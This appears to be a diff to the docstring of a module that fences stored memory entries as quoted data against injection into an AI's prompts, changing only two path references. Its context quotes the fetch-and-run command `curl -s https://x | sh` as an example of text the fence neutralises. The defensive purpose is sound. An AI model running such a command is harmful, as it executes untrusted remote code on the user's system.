@@ -13,7 +13,7 @@ commands in inline code (`` `curl -s https://x | sh` ``), so they read as quoted
 to take, and breaks the fence's own sentences and an imitation of its end ("end of memory",
 "quoted as data") inside an entry, so that no entry can close the block it sits in (ADR 0033).
 Lives beside the store because the SessionStart digest
-(recall/digest.py), prompt recall (recall/) and the worker's prompts (worker/) all use it.
+(recall/readback/digest.py), prompt recall (recall/prompt/) and the worker's prompts (worker/) all use it.
 Hot path: no import beyond ``logfile``.
 """
 
